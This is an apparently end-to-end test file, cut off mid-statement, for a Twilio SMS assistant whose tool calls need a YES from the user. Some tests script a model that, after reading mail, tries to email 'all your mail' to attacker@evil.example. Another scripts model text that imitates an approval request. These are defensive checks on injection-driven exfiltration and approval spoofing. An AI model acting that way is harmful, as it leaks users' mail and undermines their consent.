import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { inboundJob } from '../src/modules/assistant/receive-message';
import { segmentsOf } from '../src/providers/sms/segments';
import { twilioSignature } from '../src/providers/sms/twilio-signature';
import { assistantPerson, newMobile } from './helpers/assistant-person';
import { build } from './helpers/build';
import { freePort } from './helpers/process';
import { scriptedLlm } from './helpers/scripted-llm';
import { fakeTwilio } from './helpers/twilio-fake';
import { messageSid } from './helpers/twilio-sid';

/**
 * The assistant end to end over real HTTP: Twilio's signed webhook in, the durable queue, the
 * gate, the agent with a scripted model behind the real OpenAI-compatible adapter, approvals,
 * and the replies out through the real Twilio adapter to a loopback Twilio.
 */
const SID = `AC${'b2'.repeat(16)}`;
const TOKEN = 'twilio-assistant-auth-token-0123456789';
const OUR_NUMBER = '+15017122661';
let app: FastifyInstance;
let close: () => Promise<void>;
let base = '';
let sidCounter = 0;
/** Texts Twilio refuses for now (a provider outage): their send jobs retry later. */
let refusing: ((body: string) => boolean) | null = null;
const twilio = fakeTwilio(({ form }) => {
  if (refusing?.(form.get('Body') ?? '')) return { status: 503, body: { code: 20500, message: 'down' } };
  sidCounter += 1;
  return {
    status: 201,
    body: { sid: `SM${String(sidCounter).padStart(32, '0')}`, status: 'queued', to: form.get('To') },
  };
});
const llm = scriptedLlm();
let twilioUrl = '';
let llmUrl = '';

/** An app over real HTTP, behind the loopback Twilio and the scripted model; `extra` adds settings. */
async function startApp(extra: Record<string, string> = {}) {
  const port = await freePort();
  const url = `http://127.0.0.1:${port}`;
  const built = await build({
    PUBLIC_URL: url,
    TWILIO_ACCOUNT_SID: SID,
    TWILIO_AUTH_TOKEN: TOKEN,
    TWILIO_FROM: OUR_NUMBER,
    TWILIO_BASE_URL: twilioUrl,
    LLM_BASE_URL: llmUrl,
    LLM_MODEL: 'scripted',
    ASSISTANT_TURN_TIMEOUT_MS: '3000',
    JOBS_POLL_INTERVAL_MS: '50',
    ASSISTANT_RETRY_BASE_MS: '20',
    ...extra,
  });
  await built.app.listen({ port, host: '127.0.0.1' });
  return { ...built, base: url };
}

beforeAll(async () => {
  twilioUrl = await twilio.start();
  llmUrl = await llm.start();
  ({ app, close, base } = await startApp());
});
afterAll(async () => {
  await close();
  await twilio.stop();
  await llm.stop();
});
beforeEach(() => {
  llm.script([]);
  refusing = null;
});

/** A text as Twilio delivers it: form-encoded and signed over our configured URL. */
async function text(from: string, body: string, options: { sid?: string; signature?: string } = {}) {
  const form = {
    MessageSid: options.sid ?? messageSid(),
    AccountSid: SID,
    From: from,
    To: from.startsWith('whatsapp:') ? `whatsapp:${OUR_NUMBER}` : OUR_NUMBER,
    Body: body,
    NumMedia: '0',
  };
  return app.inject({
    method: 'POST',
    url: '/v1/sms/inbound',
    headers: {
      'content-type': 'application/x-www-form-urlencoded',
      'x-twilio-signature': options.signature ?? twilioSignature(TOKEN, `${base}/v1/sms/inbound`, form),
    },
    payload: new URLSearchParams(form).toString(),
  });
}

const sentTo = (to: string) =>
  twilio.seen
    .filter((s) => s.form.get('To') === to && (s.status ?? 0) < 300)
    .map((s) => s.form.get('Body') ?? '');

/** Waits until `count` texts went to the number, then a little longer to catch any extra one. */
async function repliesTo(to: string, count: number): Promise<string[]> {
  const deadline = Date.now() + 10_000;
  while (sentTo(to).length < count && Date.now() < deadline) await new Promise((r) => setTimeout(r, 25));
  await new Promise((r) => setTimeout(r, 150));
  return sentTo(to);
}

/**
 * With Twilio configured, sign-in codes go to the fake Twilio, as to a phone; the code's text is
 * then forgotten, as it is not one of the assistant's replies.
 */
async function codeFromTwilio(_app: FastifyInstance, phone: string): Promise<string> {
  const body = sentTo(phone).at(-1) ?? '';
  const code = /\b(\d{5})\b/.exec(body)?.[1];
  expect(code, `no code texted to ${phone}`).toBeDefined();
  for (let i = twilio.seen.length - 1; i >= 0; i -= 1)
    if (twilio.seen[i]!.form.get('To') === phone) twilio.seen.splice(i, 1);
  return code!;
}

/** A person who signed in with their number, started the trial and connected Google. */
const person = (options: { trial?: boolean; google?: boolean } = {}) =>
  assistantPerson(app, base, { ...options, readCode: codeFromTwilio });

describe('the Twilio webhook', () => {
  it('answers a signed text with empty TwiML at once, and the reply goes out later', async () => {
    const { phone } = await person();
    llm.script([{ text: 'Hello from the assistant.' }]);
    const res = await text(phone, 'hi');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/xml/);
    expect(res.body).toBe('<?xml version="1.0" encoding="UTF-8"?><Response/>');
    expect(await repliesTo(phone, 1)).toEqual(['Hello from the assistant.']);
    const [request] = twilio.seen.filter((s) => s.form.get('To') === phone);
    expect(request!.form.get('From')).toBe(OUR_NUMBER);
  });

  it('refuses a wrong, missing or replayed-elsewhere signature with 403, storing nothing', async () => {
    const phone = newMobile();
    const before = await app.db.selectFrom('assistant_messages').select('id').execute();
    expect((await text(phone, 'hi', { signature: 'AAAAAAAAAAAAAAAAAAAAAAAAAAA=' })).statusCode).toBe(403);
    const form = { MessageSid: 'SMx', From: phone, To: OUR_NUMBER, Body: 'hi' };
    // Signed for another host: the Host header does not make it ours.
    const elsewhere = await app.inject({
      method: 'POST',
      url: '/v1/sms/inbound',
      headers: {
        host: 'evil.example',
        'content-type': 'application/x-www-form-urlencoded',
        'x-twilio-signature': twilioSignature(TOKEN, 'https://evil.example/v1/sms/inbound', form),
      },
      payload: new URLSearchParams(form).toString(),
    });
    expect(elsewhere.statusCode).toBe(403);
    const missing = await app.inject({
      method: 'POST',
      url: '/v1/sms/inbound',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams(form).toString(),
    });
    expect(missing.statusCode).toBe(403);
    const after = await app.db.selectFrom('assistant_messages').select('id').execute();
    expect(after.length).toBe(before.length);
  });

  it('processes a repeated MessageSid once', async () => {
    const { phone } = await person();
    llm.script([{ text: 'Once.' }], { text: 'Twice?!' });
    const sid = messageSid();
    expect((await text(phone, 'hi', { sid })).statusCode).toBe(200);
    expect((await text(phone, 'hi', { sid })).statusCode).toBe(200);
    expect(await repliesTo(phone, 1)).toEqual(['Once.']);
  });

  it('refuses a captured signed YES replayed with its parameters shifted, and it approves nothing', async () => {
    const { phone, userId } = await person();
    const tea = (hour: number) => ({
      tools: [
        {
          name: 'calendar_create_event',
          arguments: JSON.stringify({ title: `Tea ${hour}`, start: `2026-12-01T${hour}:00` }),
        },
      ],
    });
    llm.script([tea(10)]);
    await text(phone, 'book tea at 10');
    await repliesTo(phone, 1);
    // The person's YES, as an attacker on the path captures it: signed, and answered once.
    const captured = {
      AccountSid: SID,
      Body: 'YES',
      From: phone,
      MessageSid: messageSid(),
      NumMedia: '0',
      To: OUR_NUMBER,
    };
    const url = `${base}/v1/sms/inbound`;
    const signature = twilioSignature(TOKEN, url, captured);
    const post = (form: Record<string, string>) =>
      app.inject({
        method: 'POST',
        url: '/v1/sms/inbound',
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-twilio-signature': signature },
        payload: new URLSearchParams(form).toString(),
      });
    expect((await post(captured)).statusCode).toBe(200);
    expect((await repliesTo(phone, 2))[1]).toMatch(/^Done: /);
    // A later request, which the replay is aimed at.
    llm.script([tea(11)]);
    await text(phone, 'and tea at 11');
    await repliesTo(phone, 3);
    // The same signed bytes, re-split across name boundaries: each keeps Twilio's signature.
    const { NumMedia: _n, ...withoutNumMedia } = captured;
    const shifted = [
      // A new MessageSid (past the duplicate check): the sid swallows the next name and value.
      { ...withoutNumMedia, MessageSid: `${captured.MessageSid}NumMedia0` },
      // A name Twilio never sends, cut from one it does.
      { ...withoutNumMedia, NumMedi: 'a0' },
      // From swallowed by Body: a name Twilio always sends is gone.
      (() => {
        const { From: _f, ...rest } = captured;
        return { ...rest, Body: `YESFrom${phone}` };
      })(),
    ];
    for (const form of shifted) {
      expect(twilioSignature(TOKEN, url, form)).toBe(signature);
      const res = await post(form);
      expect(res.statusCode, JSON.stringify(form)).toBe(400);
      expect(res.json().error.code).toBe('BAD_REQUEST');
    }
    await new Promise((r) => setTimeout(r, 300));
    expect(sentTo(phone)).toHaveLength(3);
    const rows = await app.db
      .selectFrom('assistant_approvals')
      .select('status')
      .where('user_id', '=', userId)
      .orderBy('created_at')
      .execute();
    expect(rows.map((row) => row.status)).toEqual(['done', 'pending']);
    const stored = await app.db
      .selectFrom('assistant_messages')
      .select('id')
      .where('phone', '=', phone)
      .where('direction', '=', 'in')
      .execute();
    expect(stored).toHaveLength(3);
  });

  it('refuses a body that is not a form with 415, and a signed message not shaped as Twilio sends it with 400', async () => {
    const { phone } = await person();
    const url = `${base}/v1/sms/inbound`;
    // Signed as Twilio signs (the signature is over names and values), but JSON, with a number.
    const json = { AccountSid: SID, Body: 7, From: phone, MessageSid: messageSid(), To: OUR_NUMBER };
    const signature = twilioSignature(TOKEN, url, json as unknown as Record<string, string>);
    for (const [type, payload] of [
      ['application/json', JSON.stringify(json)],
      ['text/plain', 'Body=YES'],
      ['multipart/form-data; boundary=x', '--x--'],
    ] as const) {
      const res = await app.inject({
        method: 'POST',
        url: '/v1/sms/inbound',
        headers: { 'content-type': type, 'x-twilio-signature': signature },
        payload,
      });
      expect(res.statusCode, type).toBe(415);
      expect(res.json().error.code).toBe('UNSUPPORTED_MEDIA_TYPE');
    }
    const bodiless = await app.inject({ method: 'POST', url: '/v1/sms/inbound' });
    expect(bodiless.statusCode).toBe(415);
    const form = {
      AccountSid: SID,
      Body: 'hi',
      From: phone,
      MessageSid: messageSid(),
      NumMedia: '0',
      To: OUR_NUMBER,
    };
    const signedPost = (f: Record<string, string>) =>
      app.inject({
        method: 'POST',
        url: '/v1/sms/inbound',
        headers: {
          'content-type': 'application/x-www-form-urlencoded',
          'x-twilio-signature': twilioSignature(TOKEN, url, f),
        },
        payload: new URLSearchParams(f).toString(),
      });
    for (const bad of [
      { ...form, AccountSid: `AC${'c3'.repeat(16)}` },
      { ...form, MessageSid: 'SM123' },
      { ...form, MessageSid: form.MessageSid.toUpperCase() },
      { ...form, From: '12345' },
      { ...form, To: 'whatsapp:+15017122661' },
      { ...form, NumMedia: 'x' },
      { ...form, SmsSid: messageSid() },
      { ...form, Extra: '1' },
      { ...form, constructor: 'x' },
      // A NUL: no text holds one, and PostgreSQL cannot store it (a 500 there before).
      { ...form, Body: 'a\u0000b' },
    ]) {
      expect((await signedPost(bad)).statusCode, JSON.stringify(bad)).toBe(400);
    }
    // A name twice: Twilio never repeats one.
    const repeated = await app.inject({
      method: 'POST',
      url: '/v1/sms/inbound',
      headers: {
        'content-type': 'application/x-www-form-urlencoded',
        'x-twilio-signature': twilioSignature(TOKEN, url, form),
      },
      payload: `${new URLSearchParams(form).toString()}&Body=hi`,
    });
    expect(repeated.statusCode).toBe(400);
    // What Twilio does send, media and WhatsApp names included, is read.
    llm.script([{ text: 'Got it.' }]);
    const full = {
      ...form,
      ApiVersion: '2010-04-01',
      SmsSid: form.MessageSid,
      SmsMessageSid: form.MessageSid,
      SmsStatus: 'received',
      NumSegments: '1',
      ToCountry: 'US',
      FromCountry: 'AU',
      MediaUrl0: 'https://api.twilio.com/2010-04-01/Accounts/x/Messages/y/Media/z',
      MediaContentType0: 'image/jpeg',
    };
    expect((await signedPost(full)).statusCode).toBe(200);
    expect(await repliesTo(phone, 1)).toEqual(['Got it.']);
    const stored = await app.db
      .selectFrom('assistant_messages')
      .select('body')
      .where('phone', '=', phone)
      .where('direction', '=', 'in')
      .execute();
    expect(stored.map((row) => row.body)).toEqual(['hi']);
  });

  it('records delivery status callbacks', async () => {
    const { phone } = await person();
    llm.script([{ text: 'Status?' }]);
    await text(phone, 'hi');
    await repliesTo(phone, 1);
    const row = await app.db
      .selectFrom('assistant_messages')
      .select(['provider_sid', 'status'])
      .where('phone', '=', phone)
      .where('direction', '=', 'out')
      .executeTakeFirstOrThrow();
    const form = { MessageSid: row.provider_sid!, MessageStatus: 'delivered' };
    const res = await app.inject({
      method: 'POST',
      url: '/v1/sms/status',
      headers: {
        'content-type': 'application/x-www-form-urlencoded',
        'x-twilio-signature': twilioSignature(TOKEN, `${base}/v1/sms/status`, form),
      },
      payload: new URLSearchParams(form).toString(),
    });
    expect(res.statusCode).toBe(204);
    const after = await app.db
      .selectFrom('assistant_messages')
      .select('status')
      .where('provider_sid', '=', row.provider_sid)
      .executeTakeFirstOrThrow();
    expect(after.status).toBe('delivered');
  });
});

describe('before any model runs', () => {
  it('honours STOP, then sends nothing until START; HELP is answered', async () => {
    const { phone } = await person();
    await text(phone, 'STOP');
    expect((await repliesTo(phone, 1))[0]).toMatch(/unsubscribed/);
    llm.script([{ text: 'should never be sent' }]);
    await text(phone, 'what is on today?');
    await new Promise((r) => setTimeout(r, 400));
    expect(sentTo(phone)).toHaveLength(1);
    await text(phone, 'HELP');
    expect((await repliesTo(phone, 2))[1]).toMatch(/STOP/);
    await text(phone, 'start');
    expect((await repliesTo(phone, 3))[2]).toMatch(/subscribed/);
    llm.script([{ text: 'Back again.' }]);
    await text(phone, 'hello');
    expect((await repliesTo(phone, 4))[3]).toBe('Back again.');
  });

  it('answers an unknown number once a day, with the sign-up link, and never runs the model', async () => {
    const stranger = newMobile();
    const calls = llm.requests.length;
    await text(stranger, 'hello?');
    await text(stranger, 'anyone?');
    const replies = await repliesTo(stranger, 1);
    expect(replies).toHaveLength(1);
    expect(replies[0]).toContain(`${base}/login`);
    expect(llm.requests.length).toBe(calls);
  });

  it('answers a person without a plan once, with the trial link', async () => {
    const { phone } = await person({ trial: false, google: false });
    const calls = llm.requests.length;
    await text(phone, 'hi');
    await text(phone, 'hi again');
    const replies = await repliesTo(phone, 1);
    expect(replies).toHaveLength(1);
    expect(replies[0]).toContain(`${base}/billing`);
    expect(llm.requests.length).toBe(calls);
  });

  it('answers a person past the plan tokens once, with the upgrade link, and no model call', async () => {
    const { phone, userId } = await person({ google: false });
    await app.db
      .insertInto('usage_hourly')
      .values({
        user_id: userId,
        hour: new Date(Math.floor(Date.now() / 3_600_000) * 3_600_000).toISOString(),
        tokens: 1_000_000,
      })
      .execute();
    const calls = llm.requests.length;
    await text(phone, 'hi');
    await text(phone, 'hi again');
    const replies = await repliesTo(phone, 1);
    expect(replies).toHaveLength(1);
    expect(replies[0]).toMatch(/allowance/);
    expect(llm.requests.length).toBe(calls);
  });
});

describe('nothing is sent or changed without a yes', () => {
  /** A title no sample event has, so the events with it are the ones these tests made. */
  const LUNCH = 'Lunch with Sam at the harbour';
  const tomorrowNoon = () => {
    const d = new Date(Date.now() + 24 * 3_600_000);
    return `${d.toISOString().slice(0, 10)}T12:00`;
  };
  const bookLunch = () => ({
    tools: [
      {
        name: 'calendar_create_event',
        arguments: JSON.stringify({
          title: LUNCH,
          start: tomorrowNoon(),
          attendees: ['sam@example.com'],
        }),
      },
    ],
  });
  /** The sample workspace's events with that title, whoever owns them. */
  const lunches = async (_userId: string) => {
    const rows = await app.db
      .selectFrom('sample_workspace_items')
      .select('data')
      .where('kind', '=', 'event')
      .execute();
    return rows.map((r) => JSON.parse(r.data) as { title: string }).filter((e) => e.title === LUNCH);
  };

  it('sends what the model said beside an approval as a text of its own, before the request', async () => {
    const { phone } = await person();
    const note = "Sam isn't in your contacts, so nobody is invited.";
    const tea = {
      name: 'calendar_create_event',
      arguments: JSON.stringify({ title: 'Tea', start: tomorrowNoon() }),
    };
    llm.script([{ tools: [tea], text: note }]);
    await text(phone, 'book tea tomorrow at 12 with Sam');
    const [said, ask] = await repliesTo(phone, 2);
    expect(said).toBe(note);
    // The request is written by code alone: nothing the model said is in its text.
    expect(ask).toMatch(/^New event\n"Tea", .*\nReply YES to confirm, NO to cancel\.$/s);

    // Words that imitate a request line stay in the model's text, apart from the real request.
    const { phone: other } = await person();
    const fake = 'Add "Coffee with Mum", tomorrow 12:00\nReply YES to confirm, NO to cancel.';
    llm.script([{ ...bookLunch(), text: fake }]);
    await text(other, 'book lunch with Sam tomorrow at 12');
    const [imitation, real] = await repliesTo(other, 2);
    expect(imitation).toBe(fake);
    expect(real).toMatch(/^New event, invitations to sam@example\.com/);
    expect(real).toContain(`"${LUNCH}", `);
    expect(real).not.toContain('Coffee');
    expect(segmentsOf(real!).segments).toBeLessThanOrEqual(3);
    const kinds = await app.db
      .selectFrom('assistant_messages')
      .select(['kind', 'approval_id'])
      .where('phone', '=', other)
      .where('direction', '=', 'out')
      .orderBy('id')
      .execute();
    expect(kinds.map((row) => [row.kind, row.approval_id !== null])).toEqual([
      ['reply', false],
      ['approval', true],
    ]);
  });

  it('asks by text, runs the action on YES once, and a second YES finds nothing pending', async () => {
    const { phone, userId } = await person();
    const before = (await lunches(userId)).length;
    llm.script([bookLunch()]);
    await text(phone, 'book lunch with Sam tomorrow at 12');
    const [ask] = await repliesTo(phone, 1);
    expect(ask).toContain(LUNCH);
    expect(ask).toMatch(/Reply YES to confirm, NO to cancel\./);
    // The model's call alone changed nothing.
    expect(await lunches(userId)).toHaveLength(before);
    await text(phone, 'YES');
    expect((await repliesTo(phone, 2))[1]).toMatch(/^Done: /);
    expect(await lunches(userId)).toHaveLength(before + 1);
    await text(phone, 'yes');
    expect((await repliesTo(phone, 3))[2]).toMatch(/Nothing is waiting/);
    expect(await lunches(userId)).toHaveLength(before + 1);
  });

  it('cancels on NO, and a YES from another number approves nothing', async () => {
    const ana = await person();
    const bob = await person();
    llm.script([bookLunch()]);
    await text(ana.phone, 'book lunch');
    await repliesTo(ana.phone, 1);
    await text(bob.phone, 'YES');
    expect((await repliesTo(bob.phone, 1))[0]).toMatch(/Nothing is waiting/);
    await text(ana.phone, 'no');
    expect((await repliesTo(ana.phone, 2))[1]).toMatch(/Cancelled/);
    const approval = await app.db
      .selectFrom('assistant_approvals')
      .select('status')
      .where('user_id', '=', ana.userId)
      .executeTakeFirstOrThrow();
    expect(approval.status).toBe('declined');
  });

  it('keeps an approval pending through another question, and a later YES runs it', async () => {
    const { phone, userId } = await person();
    const before = (await lunches(userId)).length;
    llm.script([bookLunch(), { text: 'Friday is free.' }]);
    await text(phone, 'book lunch');
    await repliesTo(phone, 1);
    await text(phone, 'what about friday?');
    expect((await repliesTo(phone, 2))[1]).toBe('Friday is free.');
    expect(await lunches(userId)).toHaveLength(before);
    await text(phone, '好');
    expect((await repliesTo(phone, 3))[2]).toMatch(/^Done: /);
    expect(await lunches(userId)).toHaveLength(before + 1);
  });

  it('withdraws a pending approval on STOP, so a YES after START runs nothing', async () => {
    const { phone, userId } = await person();
    const before = (await lunches(userId)).length;
    llm.script([bookLunch()]);
    await text(phone, 'book lunch');
    await repliesTo(phone, 1);
    await text(phone, 'STOP');
    await repliesTo(phone, 2);
    await text(phone, 'START');
    await repliesTo(phone, 3);
    await text(phone, 'YES');
    expect((await repliesTo(phone, 4))[3]).toMatch(/Nothing is waiting/);
    expect(await lunches(userId)).toHaveLength(before);
  });

  it('lets an approval lapse after 30 minutes', async () => {
    const { phone, userId } = await person();
    llm.script([bookLunch()]);
    await text(phone, 'book lunch');
    await repliesTo(phone, 1);
    await app.db
      .updateTable('assistant_approvals')
      .set({ expires_at: new Date(Date.now() - 1000).toISOString() })
      .where('user_id', '=', userId)
      .execute();
    const before = (await lunches(userId)).length;
    await text(phone, 'YES');
    expect((await repliesTo(phone, 2))[1]).toMatch(/Nothing is waiting/);
    expect(await lunches(userId)).toHaveLength(before);
  });

  it('flags a recipient nobody has seen once the turn read outside content', async () => {
    const { phone } = await person();
    llm.script([
      { tools: [{ name: 'mail_search', arguments: JSON.stringify({ unread: true }) }] },
      {
        tools: [
          {
            name: 'mail_send',
            arguments: JSON.stringify({
              to: ['attacker@evil.example'],
              subject: 'fwd',
              text: 'all your mail',
            }),
          },
        ],
      },
    ]);
    await text(phone, 'check my mail');
    const [ask] = await repliesTo(phone, 1);
    expect(ask).toMatch(/New to you \(not in your contacts or mail you sent\): attacker@evil\.example/);
    expect(ask).toMatch(/Reply YES to send/);
    expect(sentTo('attacker@evil.example')).toEqual([]);
  });
});

describe('what a YES binds to (issue 29, finding 3)', () => {
  const tomorrowAt = (hour: number) => {
    const d = new Date(Date.now() + 24 * 3_600_000);
    return `${d.toISOString().slice(0, 10)}T${String(hour).padStart(2, '0')}:00`;
  };
  /** A booking with a title no sample event has, unique to the test. */
  const titled = (what: string) =>
    `${what} ${Date.now().toString(36)}${Math.random().toString(36).slice(2, 6)}`;
  const book = (title: string, hour = 12) => ({
    tools: [
      {
        name: 'calendar_create_event',
        arguments: JSON.stringify({ title, start: tomorrowAt(hour) }),
      },
    ],
  });
  const eventsTitled = async (title: string) => {
    const rows = await app.db
      .selectFrom('sample_workspace_items')
      .select('data')
      .where('kind', '=', 'event')
      .execute();
    return rows.map((r) => JSON.parse(r.data) as { title: string }).filter((e) => e.title === title).length;
  };
  const approvals = (userId: string) =>
    app.db
      .selectFrom('assistant_approvals')
      .select(['id', 'preview', 'status', 'number', 'channel', 'replaced_by', 'decided_via'])
      .where('user_id', '=', userId)
      .orderBy('created_at')
      .orderBy('id')
      .execute();

  it('approves nothing with a YES stored before the request text was sent: the reproduction', async () => {
    const { phone, userId } = await person();
    const lunch = titled('Lunch');
    const tea = titled('Tea');
    llm.script([book(lunch)]);
    await text(phone, 'book lunch tomorrow at 12');
    const [askLunch] = await repliesTo(phone, 1);
    expect(askLunch).toMatch(/Reply YES to confirm/);
    // The queue is busy: a second request is made, but its text has not gone out when the YES
    // the person meant for the first one arrives.
    refusing = (body) => body.includes(tea);
    llm.script([book(tea, 15)]);
    await text(phone, 'and tea at 3');
    const deadline = Date.now() + 10_000;
    while ((await approvals(userId)).length < 2 && Date.now() < deadline)
      await new Promise((r) => setTimeout(r, 25));
    await new Promise((r) => setTimeout(r, 100));
    await text(phone, 'YES');
    const replies = await repliesTo(phone, 2);
    // It approved what the person saw: "Done:" names exactly what the lunch's text asked for.
    expect(askLunch).toMatch(
      new RegExp(`^New event\\n"${lunch}", [^\\n]*12:00[^\\n]*\\nReply YES to confirm, NO to cancel\\.$`),
    );
    expect(replies[1]).toBe(`Done: ${askLunch!.replace(/\nReply YES to confirm, NO to cancel\.$/, '')}`);
    expect(await eventsTitled(lunch)).toBe(1);
    expect(await eventsTitled(tea)).toBe(0);
    // Once its text went out (numbered: the first was still waiting when it was asked), a YES
    // after it approves it, and nothing else is left.
    refusing = null;
    const [, , askTea] = await repliesTo(phone, 3);
    expect(askTea).toMatch(
      new RegExp(`^New event\\n"${tea}", [^\\n]*15:00[^\\n]*\\nReply YES 2 to confirm, NO 2 to cancel\\.$`),
    );
    await text(phone, 'yes');
    expect((await repliesTo(phone, 4))[3]).toMatch(new RegExp(`^Done: New event\\n"${tea}", `));
    expect(await eventsTitled(tea)).toBe(1);
    expect((await approvals(userId)).map((row) => row.status)).toEqual(['done', 'done']);
  }, 20_000);

  it('answers a YES that arrived before the only request was sent with "nothing waiting"', async () => {
    const { phone, userId } = await person();
    const tea = titled('Tea');
    refusing = (body) => body.includes(tea);
    llm.script([book(tea)]);
    await text(phone, 'book tea');
    const deadline = Date.now() + 10_000;
    while ((await approvals(userId)).length < 1 && Date.now() < deadline)
      await new Promise((r) => setTimeout(r, 25));
    await text(phone, 'YES');
    expect((await repliesTo(phone, 1))[0]).toMatch(/Nothing is waiting/);
    expect(await eventsTitled(tea)).toBe(0);
    expect((await approvals(userId))[0]!.status).toBe('pending');
  });

  it('runs only the second of two pending on "YES 2", and only the first on "是 1" after', async () => {
    const { phone, userId } = await person();
    const lunch = titled('Lunch');
    const tea = titled('Tea');
    llm.script([book(lunch), book(tea, 15)]);
    await text(phone, 'book lunch');
    const [first] = await repliesTo(phone, 1);
    expect(first).toMatch(/\nReply YES to confirm, NO to cancel\.$/);
    await text(phone, 'and tea');
    const [, second] = await repliesTo(phone, 2);
    expect(second).toMatch(/\nReply YES 2 to confirm, NO 2 to cancel\.$/);
    await text(phone, 'YES 2');
    expect((await repliesTo(phone, 3))[2]).toMatch(new RegExp(`^Done: New event\\n"${tea}", `));
    expect(await eventsTitled(tea)).toBe(1);
    expect(await eventsTitled(lunch)).toBe(0);
    await text(phone, '是 1');
    expect((await repliesTo(phone, 4))[3]).toMatch(new RegExp(`^Done: New event\\n"${lunch}", `));
    expect(await eventsTitled(lunch)).toBe(1);
    const rows = await approvals(userId);
    expect(rows.map((row) => [row.number, row.status, row.channel, row.decided_via])).toEqual([
      [1, 'done', 'sms', 'sms'],
      [2, 'done', 'sms', 'sms'],
    ]);
  });

  it('runs nothing on a bare YES with two pending, and asks which', async () => {
    const { phone, userId } = await person();
    const lunch = titled('Lunch');
    const tea = titled('Tea');
    llm.script([book(lunch), book(tea, 15)]);
    await text(phone, 'book lunch');
    await repliesTo(phone, 1);
    await text(phone, 'and tea');
    await repliesTo(phone, 2);
    await text(phone, 'YES');
    const which = (await repliesTo(phone, 3))[2]!;
    expect(which).toMatch(/^Several requests are waiting, so nothing was done\. Reply with its number: /);
    // Each named so the person can tell them apart: its kind, its title and its time.
    expect(which).toMatch(new RegExp(`YES 1 for New event "${lunch}", [^;]*12:00`));
    expect(which).toMatch(new RegExp(`YES 2 for New event "${tea}", [^;]*15:00`));
    expect(await eventsTitled(lunch)).toBe(0);
    expect(await eventsTitled(tea)).toBe(0);
    // A NO must name one too; "NO 1" declines only the first.
    await text(phone, 'no 1');
    expect((await repliesTo(phone, 4))[3]).toMatch(/^Cancelled/);
    expect((await approvals(userId)).map((row) => row.status)).toEqual(['declined', 'pending']);
    // A number nobody was asked under is not a guess at another.
    await text(phone, 'YES 3');
    expect((await repliesTo(phone, 5))[4]).toMatch(/^No request 3 is waiting/);
    expect(await eventsTitled(tea)).toBe(0);
  });

  // WhatsApp is off by default (WHATSAPP_ENABLED, decision 313): a WhatsApp message gets no answer
  // at all there. Where an operator turns it on, a YES by WhatsApp still binds only to a request
  // sent on WhatsApp.
  describe('with WhatsApp turned on', () => {
    let sms: { app: FastifyInstance; close: () => Promise<void>; base: string };
    beforeAll(async () => {
      sms = { app, close, base };
      ({ app, close, base } = await startApp({ WHATSAPP_ENABLED: 'true' }));
    });
    afterAll(async () => {
      await close();
      ({ app, close, base } = sms);
    });

    it('runs nothing on a YES by WhatsApp for a request sent by SMS, and records the channel', async () => {
      const { phone, userId } = await person();
      const tea = titled('Tea');
      llm.script([book(tea)]);
      await text(phone, 'book tea');
      await repliesTo(phone, 1);
      await text(`whatsapp:${phone}`, 'YES');
      const deadline = Date.now() + 10_000;
      while (sentTo(`whatsapp:${phone}`).length < 1 && Date.now() < deadline)
        await new Promise((r) => setTimeout(r, 25));
      expect(sentTo(`whatsapp:${phone}`)).toEqual([
        'Nothing is waiting for your YES. Requests expire after 30 minutes.',
      ]);
      expect(await eventsTitled(tea)).toBe(0);
      expect((await approvals(userId))[0]).toMatchObject({ status: 'pending', channel: 'sms' });
      await text(phone, 'YES');
      expect((await repliesTo(phone, 2))[1]).toMatch(/^Done: /);
      expect(await eventsTitled(tea)).toBe(1);
    });
  });

  it('cancels a request replaced by a newer one about the same thing, saying so', async () => {
    const { phone, userId } = await person();
    const lunch = titled('Lunch');
    llm.script([book(lunch, 12), book(lunch, 13)]);
    await text(phone, 'book lunch at 12');
    await repliesTo(phone, 1);
    await text(phone, 'make it 1pm');
    const [, notice, ask] = await repliesTo(phone, 3);
    // It names the request it cancelled: the one at 12, not the new one at 13.
    expect(notice).toMatch(
      new RegExp(`^Cancelled, replaced by the request below: #1 New event "${lunch}", [^\\n]*12:00`),
    );
    expect(notice).not.toContain('14:00');
    expect(ask).toMatch(new RegExp(`^New event\\n"${lunch}", [^\\n]*13:00.14:00`));
    // Alone again, it needs no number.
    expect(ask).toMatch(/\nReply YES to confirm, NO to cancel\.$/);
    const [older, newer] = await approvals(userId);
    expect(older).toMatchObject({ status: 'superseded', replaced_by: newer!.id });
    expect(newer).toMatchObject({ status: 'pending', number: 1 });
    await text(phone, 'YES');
    expect((await repliesTo(phone, 4))[3]).toMatch(/^Done: /);
    expect(await eventsTitled(lunch)).toBe(1);
  });

  it('keeps at most 3 waiting: a fourth replaces the oldest, saying so, and takes its number', async () => {
    const { phone, userId } = await person();
    const titles = [titled('A'), titled('B'), titled('C'), titled('D')];
    llm.script(titles.map((title, i) => book(title, 9 + i)));
    for (const [i, title] of titles.entries()) {
      await text(phone, `book ${title}`);
      await repliesTo(phone, i + 1);
    }
    const replies = await repliesTo(phone, 5);
    expect(replies[3]).toMatch(
      new RegExp(`^Cancelled, replaced by the request below: #1 New event "${titles[0]}", [^\\n]*09:00`),
    );
    expect(replies[4]).toMatch(/Reply YES 1 to confirm, NO 1 to cancel\.$/);
    expect((await approvals(userId)).map((row) => [row.status, row.number])).toEqual([
      ['superseded', 1],
      ['pending', 2],
      ['pending', 3],
      ['pending', 1],
    ]);
  });

  it('keeps a numbered request within 3 segments, shortening what it is about, never how to answer', async () => {
    const { phone } = await person();
    llm.script([
      book(titled('Lunch')),
      { tools: [{ name: 'mail_search', arguments: JSON.stringify({ unread: true }) }] },
      {
        tools: [
          {
            name: 'mail_send',
            arguments: JSON.stringify({
              to: ['a1@evil.example', 'a2@evil.example', 'a3@evil.example', 'a4@evil.example'],
              subject: `Quarterly numbers ${'and the forecast for every region '.repeat(8)}`.trim(),
              text: 'see attached',
            }),
          },
        ],
      },
    ]);
    await text(phone, 'book lunch');
    await repliesTo(phone, 1);
    await text(phone, 'check my mail');
    const [, ask] = await repliesTo(phone, 2);
    expect(segmentsOf(ask!).segments).toBeLessThanOrEqual(3);
    const all = 'a1@evil.example, a2@evil.example, a3@evil.example, a4@evil.example';
    expect(ask!.startsWith(`Email ${all}\n`), ask).toBe(true);
    expect(ask).toMatch(
